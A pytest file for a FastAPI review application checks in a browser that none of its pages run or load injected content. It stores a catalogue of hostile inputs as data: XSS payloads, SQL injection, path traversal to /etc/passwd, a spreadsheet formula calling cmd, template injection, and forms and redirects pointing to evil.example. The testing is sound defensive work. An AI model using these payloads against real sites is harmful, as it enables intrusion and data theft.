"""Hostile words in every place that words can stand: nothing in them runs, and they are shown as they are."""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute
from playwright.sync_api import Browser, ConsoleMessage, Page, Request
from sqlalchemy import select

from groundswell.project import Project, team
from groundswell.project.linking import link
from groundswell.record.document import Document
from groundswell.record.evidence import Evidence
from groundswell.record.statement import Judgement, Statement
from groundswell.record.words import storable
from groundswell.review.app import make_app
from groundswell.review.security import LOOPBACK
from groundswell.store import keep, readings
from groundswell.store import tables as t
from groundswell.store.keep import Coded

PASSWORD = "a walk along the river"
ADMIN = "<img src=x onerror=canary('admin')>"

ATTACKS = {
    "script": "<script>canary('script')</script>",
    "image": "<img src=x onerror=canary('image')>",
    "drawing": "<svg/onload=canary('svg')><animate onbegin=canary('svg') attributeName=x dur=1s>",
    "attribute": '" autofocus onfocus="canary(\'attribute\')" x="',
    "attribute in single quotes": "' autofocus onfocus='canary(1)' x='",
    "end of a script": "</script><script>canary('end')</script>",
    "end of a title": "</title></textarea></style></select></template><img src=x onerror=canary('title')>",
    "comment": "<!--><img src=x onerror=canary('comment')>-->",
    "frame": "<iframe srcdoc=\"<script>parent.canary('frame')</script>\"></iframe><object data=http://evil.example>",
    "elsewhere": "<base href=http://evil.example/><link rel=stylesheet href=http://evil.example/a.css>"
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><img src=http://evil.example/a.png>",
    "form": "<form action=http://evil.example><input name=token><button autofocus>x</button></form>",
    "part of a page": '<div hx-get="http://evil.example" hx-trigger="load" hx-on:load="canary(\'htmx\')">x</div>',
    "template": "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} ${7*7} #{7*7} <%=7*7%>",
    "format": "%s %n {0} {page.__class__} {n!r:>9999999} $& $' $` $1 \\1",
    "address of a script": "javascript:canary('address')//http://evil.example",
    "address of data": "data:text/html,<script>parent.canary('data')</script>",
    "address elsewhere": "//evil.example/a.png",
    "direction": "\u202e<gpj.exe \u2066ab\u2069 \u200f\u202d",
    "zero byte": "a\x00b<scr\x00ipt>canary('zero')</script>",
    "half a character": "\ud83d<img src=x onerror=canary('half')>\udc00",
    "separators": "a\u2028canary('line')\u2029b\u0085c\ufeffd\x0b\x1b[31m",
    "database": '\'; DROP TABLE document; -- " OR 1=1 OR "a"="',
    "search": '"AND OR NOT NEAR(*) ^ : { } - + ( "',
    "path": "../../../../etc/passwd\\..\\..\\win.ini",
    "formula": "=cmd|' /C calc'!A0 @SUM(1) +1 -1 \t=1",
    "name of everything": "__proto__",
    "constructor": "constructor",
    "JSON": '","text":{"__proto__":{"polluted":1}},"\\u003cscript\\u003e',
    "entities": "&lt;img src=x onerror=canary('entity')&gt; &#60;b&#62; &amp;amp; &nbsp;",
    "marks": "Z" + "\u0351\u036b\u0343" * 40 + "algo",
    "enormous": "<b>" + "A very long word " * 3000 + "</b>",
    "one enormous word": "x" * 20_000,
}

#: In every page before anything else: what an attack would call, and what it could change for all objects.
TRAP = """
window.caught = [];
window.canary = (...told) => { window.caught.push(String(told)); return 'x'; };
for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = () => window.caught.push(name);
"""

#: What of a page runs, or sends one elsewhere, and is not ours.
FOREIGN = """() => [
  ...window.caught.map((told) => `ran: ${told}`),
  ...({}.polluted === undefined ? [] : ['prototype']),
  ...[...document.querySelectorAll('*')].flatMap((element) => [...element.attributes].flatMap(({name, value}) =>
    name.startsWith('on') || /^(hx-on|srcdoc)/.test(name)
    || (/^(href|src|action|formaction|hx-\\w+|data|poster|xlink:href)$/.test(name)
        && !/^(#|\\/(?![\\/\\\\])|$)/.test(value) && !(name === 'href' && /^https?:\\/\\//.test(value)
        && element.rel.includes('noopener')) && !/^(data:image\\/|blob:)/.test(value)
        && !(name.startsWith('hx-') && !/^hx-(get|post|put|delete|patch)$/.test(name)))
    ? [`${element.tagName} ${name}=${value.slice(0, 80)}`] : [])),
  ...[...document.querySelectorAll('iframe, object, embed, base, meta[http-equiv], link:not([href^="/static/"])')].map(
    (element) => element.outerHTML.slice(0, 80)),
  ...[...document.scripts].filter((s) => !s.src && s.type !== 'application/json').map((s) => s.outerHTML.slice(0, 80)),
]"""


# ------------------------------------------------------------------ a project full of attacks


def told(attack: str, text: str) -> tuple[Statement, ...]:
    """An event all of whose words are the attack."""
    found = text.index("march")
    at = (Evidence(found, found + 5, "march"),)
    first = (Evidence(0, len(attack), attack),) if attack else ()
    place = {
        "name": attack,
        "site": attack,
        "locality": attack,
        "admin2": attack,
        "admin1": attack,
        "country": "PER",
        "latitude": -12.0,
        "longitude": -77.0,
        "geoname_id": None,
        "precision": "locality",
    }
    size = {
        "low": 300,
        "high": 300,
        "estimate": 300,
        "text": attack,
        "rule": attack,
        "category": "100-999",
        "by": "unknown",
    }

    def say(field: str, value: Any) -> Statement:
        return Statement(field, value, "inferred", attack, first, 0.4, attack)

    return (
        Statement("standing", "focal", "stated"),
        Statement("rank", 1, "stated"),
        Statement("form", "march", "stated", "march", at, 0.9),
        Statement("start_date", "2021-05-03", "stated", attack, first, 0.9, attack),
        say("place", place),
        *(say(field, {"name": attack, "kind": "union"}) for field in ("organizer", "participant", "target")),
        say("claim", {"text": attack, "issue": ["labor_wages"], "stance": "for"}),
        say("slogan", attack),
        say("size", size),
        say("campaign", attack),
    )


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project in which every word that a report, a machine or a person can say is an attack."""
    folder = tmp_path_factory.mktemp("attacked") / "project"
    with Project.create(folder) as project:
        coded = []
        for attack in ATTACKS.values():
            text = f"{attack}\n\nAbout 300 bakers march. {attack}"
            document = Document(attack, text, title=attack, published=dt.date(2021, 5, 4), publisher=attack, url=attack)
            coded.append(Coded(document, None, "en", 0.9, attack, None, (("e1", told(attack, text)),)))
        run = project.run("code")
        with project.database.writing() as connection:
            run_id = keep.start_run(connection, run)
        keep.keep_coded(project.database, coded, run, run_id)
        link(project)
        people_speak(project)
        link(project)
    return folder


def people_speak(project: Project) -> None:
    """People say it again, remark on it, ask about it and judge it, under names that are attacks."""
    with project.database.writing() as connection:
        rows = connection.execute(t.candidate.select().order_by(t.candidate.c.candidate_id)).all()
        for row, other, attack in zip(rows, [*rows[1:], rows[0]], ATTACKS.values(), strict=True):
            run_id = keep.start_run(connection, project.run("correct", by=storable(attack)[:60]))
            again = [s for s in told(attack, f"{attack} march") if s.field in ("claim", "slogan", "organizer")]
            keep.say(connection, row.name, again, run_id)
            for about in (row.candidate_id, None):
                readings.keep_note(connection, row.document_id, attack, run_id, candidate_id=about)
            outcome = ("expert", "skipped", "done")[row.document_id % 3]
            readings.keep_reading(connection, row.document_id, outcome, run_id, reason=attack)
            left, right = sorted((row.name, other.name))
            verdict = "same" if row.document_id % 4 == 0 else "campaign"
            judged = Judgement(left, right, verdict, None, {"note": storable(attack)})
            keep.keep_judgements(connection, [judged], keep.numbers_of(connection, [left, right]), run_id)


@pytest.fixture(scope="module")
def hostile(attacked: Path) -> Iterator[FastAPI]:
    """The application over it, for a team whose members' names are attacks."""
    with Project.open(attacked) as project:
        team.add(project, ADMIN, "admin", PASSWORD, by=ADMIN)
        for attack in ATTACKS.values():
            if attack.isprintable() and len(attack) <= team.NAME_CHARACTERS:
                team.add(project, attack, "coder", PASSWORD, by=attack, address=attack)
    app = make_app(attacked, by="", team=True, hosts=LOOPBACK)
    yield app
    app.state.project.close()


# ------------------------------------------------------------------ what a browser makes of it


def addresses(app: FastAPI) -> list[str]:
    """Every page of the application, for every report and every event."""
    with app.state.project.database.reading() as connection:
        known = {
            "number": [str(n) for n in connection.execute(select(t.document.c.document_id)).scalars()],
            "name": sorted(set(connection.execute(select(t.membership.c.event_id)).scalars())),
            "field": ["form", "claim", "size"],
        }
    found = []
    for route in app.routes:
        if isinstance(route, APIRoute) and route.path.count("/") and route.name.endswith(".html"):
            of = re.findall(r"\{(\w+)\}", route.path)
            found += [re.sub(r"\{\w+\}", value, route.path) for value in (known[of[0]] if of else [""])]
    return found


class Watched:
    """A page that notes whatever runs in it, or leaves it, that is not ours."""

    def __init__(self, browser: Browser, address: str) -> None:
        self.address = address
        self.context = browser.new_context(locale="en-GB", reduced_motion="reduce", bypass_csp=False)
        self.page: Page = self.context.new_page()
        self.page.add_init_script(TRAP)
        self.faults: list[str] = []
        self.page.on("dialog", lambda dialog: (self.faults.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda error: self.faults.append(f"error: {error}"))
        self.page.on("request", self._request)
        self.page.on("popup", lambda other: self.faults.append(f"window: {other.url}"))

    def _console(self, told: ConsoleMessage) -> None:
        if "Content Security Policy" in told.text or "Refused to" in told.text:
            self.faults.append(told.text[:300])

    def _request(self, request: Request) -> None:
        if not request.url.startswith((self.address, "data:image/", "blob:")):
            self.faults.append(f"request: {request.url[:200]}")

    def open(self, path: str, *, until: Any = "load") -> list[str]:
        """Open a page; gives what was noted of it."""
        self.faults.clear()
        self.page.goto(self.address + path, wait_until=until)
        self.page.mouse.move(300, 300)
        self.page.keyboard.press("Tab")
        found = self.faults + self.page.evaluate(FOREIGN)
        if urlsplit(self.page.url).netloc != urlsplit(self.address).netloc:
            found.append(f"left for {self.page.url[:200]}")
        return [f"{path}: {fault}" for fault in found]


@pytest.fixture(scope="module")
def watched(hostile: FastAPI, chromium: Browser, serve: Any) -> Iterator[Watched]:
    with serve(hostile) as address:
        watched = Watched(chromium, address)
        watched.page.goto(f"{address}/login")
        watched.page.fill("#name", ADMIN)
        watched.page.fill("#password", PASSWORD)
        watched.page.keyboard.press("Enter")
        watched.page.wait_for_url(lambda url: "/login" not in url)
        yield watched
        watched.context.close()


@pytest.mark.parametrize("name", ["script", "image", "attribute", "frame", "part of a page", "form"])
def test_attack_that_is_not_escaped_would_be_noticed(watched: Watched, name: str) -> None:
    bare = f'<p>{ATTACKS[name]}<a title="{ATTACKS[name]}">'
    watched.page.route("**/bare", lambda route: route.fulfill(body=bare, content_type="text/html"))
    try:
        assert watched.open("/bare")
    finally:
        watched.page.unroute("**/bare")


def test_nothing_runs_on_any_page(hostile: FastAPI, watched: Watched) -> None:
    faults = [fault for path in addresses(hostile) for fault in watched.open(path)]
    assert faults == []


def test_nothing_runs_that_stands_in_an_address(hostile: FastAPI, watched: Watched) -> None:
    plain = [path for path in addresses(hostile) if not re.search(r"/(\d+|[0-9a-f]{12})(/|$)", path)]
    faults = []
    together = "".join(
        ATTACKS[name] for name in ("script", "attribute", "attribute in single quotes", "end of a title")
    )
    for attack in (together, ATTACKS["address of a script"], ATTACKS["template"] + ATTACKS["format"]):
        asked = quote(attack, safe="")
        keys = ("q", "next", "who", "action", "place", "country", "form", "order", "sort")
        query = "&".join(f"{key}={asked}" for key in keys)
        for path in (*(f"{path}?{query}" for path in plain), f"/{asked}", f"/events/{asked}", f"/reports/{asked}"):
            faults += watched.open(path)
    assert faults == []


def seen(words: str) -> str:
    """Words as a page holds them, without the white space that it adds, and what it shows as such."""
    return " ".join(re.sub(r"[\x00-\x1f\x7f-\x9f]", " ", storable(words)).split())


@pytest.mark.parametrize("name", list(ATTACKS))
def test_words_of_a_report_are_shown_as_they_are(hostile: FastAPI, watched: Watched, name: str) -> None:
    number = list(ATTACKS).index(name) + 1
    watched.page.goto(f"{watched.address}/reports/{number}")
    shown = seen(watched.page.evaluate("document.querySelector('main').textContent"))
    assert seen(ATTACKS[name])[:200] in shown
    assert seen(watched.page.title()).startswith(seen(ATTACKS[name])[:40])


def test_names_of_people_are_shown_as_they_are(watched: Watched) -> None:
    watched.page.goto(f"{watched.address}/team")
    names = {seen(name) for name in watched.page.locator("tbody th").all_text_contents()}
    assert seen(ADMIN) in names
    assert seen(ATTACKS["image"]) in names
    watched.page.goto(f"{watched.address}/audit")
    assert seen(ADMIN) in seen(watched.page.evaluate("document.querySelector('table').textContent"))


def test_database_is_as_it_was(hostile: FastAPI) -> None:
    with hostile.state.project.database.reading() as connection:
        assert len(connection.execute(select(t.document.c.document_id)).all()) == len(ATTACKS)
    assert team.check_log(hostile.state.project)[0] is None
